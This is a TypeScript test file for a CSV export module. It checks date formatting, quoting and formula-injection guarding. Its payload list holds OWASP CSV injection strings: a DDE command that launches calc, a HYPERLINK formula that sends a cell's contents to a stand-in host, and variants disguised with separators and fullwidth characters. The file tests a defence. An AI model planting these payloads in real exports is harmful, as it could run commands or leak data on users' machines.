import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDate, csvDocument, csvLine } from './csv-write.ts';

/** OWASP's CSV injection payloads, and the same hidden after a separator a spreadsheet may split on. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Error: please click")',
  "x,=cmd|' /C calc'!A0",
  'x;=1+1',
  'x\t=1+1',
  '\t=1+1',
  '\r=1+1',
  'line\n=1+1',
  ' =1+1',
  '"=1+1',
  'x," =1+1',
  '\uFF1D1+1',
  'x,\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1+1)',
];
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** What a spreadsheet could take for a formula: the cell's text past leading spaces and quotes. */
const runsAsFormula = (cell: string) => FORMULA.test(cell.replace(/^[\s"]+/, ''));

async function textOf(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

describe('CSV writer', () => {
  it('writes dates as dd/mm/yyyy in Paris, whatever the server clock', () => {
    // 23:30 UTC on 31 December is already 1 January in Paris.
    expect(csvDate(new Date('2025-12-31T23:30:00Z'))).toBe('01/01/2026');
    expect(csvDate(new Date('2026-07-14T08:00:00Z'))).toBe('14/07/2026');
    expect(csvDate(null)).toBe('');
    expect(csvCell(new Date('2026-03-02T12:00:00Z'))).toBe('02/03/2026');
  });

  it('quotes separators and guards formulas', () => {
    expect(csvLine(['a;b', '=1+1', 3, null, 'ok'])).toBe(`"a;b";'=1+1;3;;ok\r\n`);
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell("x,=cmd|' /C calc'!A0")).toBe(`"x,'=cmd|' /C calc'!A0"`);
    expect(csvCell('Dupont, Marie')).toBe('"Dupont, Marie"');
    expect(csvCell('\uFF1D1+1')).toBe("'\uFF1D1+1");
    expect(csvCell(-1)).toBe('-1');
  });

  it('leaves no cell a spreadsheet would run, whatever separator it splits the file on (issue 27)', () => {
    const file = PAYLOADS.map((payload) => csvLine(['avant', payload, 'après'])).join('');
    // Read as written (semicolons, quotes honoured): every text comes back whole, a formula only behind an apostrophe.
    const rows = parse(file, { delimiter: ';' });
    expect(rows).toHaveLength(PAYLOADS.length);
    rows.forEach((row, index) => {
      expect(row).toHaveLength(3);
      expect(row[1]?.replaceAll("'", '')).toBe(PAYLOADS[index]?.replaceAll("'", ''));
      expect(row.some(runsAsFormula)).toBe(false);
    });
    // Split on any separator with no regard for quotes (a spreadsheet told the wrong separator): no piece runs either.
    for (const separator of [';', ',', '\t', '\r', '\n']) {
      const pieces = file.split(separator);
      expect(pieces.filter(runsAsFormula)).toEqual([]);
    }
    // Quotes honoured with the comma or the tab as the separator, as far as a strict reader gets.
    for (const delimiter of [',', '\t']) {
      const cells = parse(file, {
        delimiter,
        relax_quotes: true,
        relax_column_count: true,
        skip_records_with_error: true,
      }).flat();
      expect(cells.filter(runsAsFormula)).toEqual([]);
    }
  });

  it('starts with the byte-order mark and the header, ends every line with CRLF, in chunks', async () => {
    async function* rows() {
      for (let i = 1; i <= 5000; i += 1) yield [i, `Nom ${i}`];
    }
    const chunks: string[] = [];
    for await (const chunk of csvDocument(['N°', 'Nom'], rows())) chunks.push(chunk);
    const text = chunks.join('');
    expect(text.startsWith('\uFEFFN°;Nom\r\n1;Nom 1\r\n')).toBe(true);
    expect(text.endsWith('5000;Nom 5000\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(5002);
    expect(chunks.length).toBeGreaterThan(1);
    expect(await textOf(csvDocument(['Seul'], []))).toBe('\uFEFFSeul\r\n');
  });
});
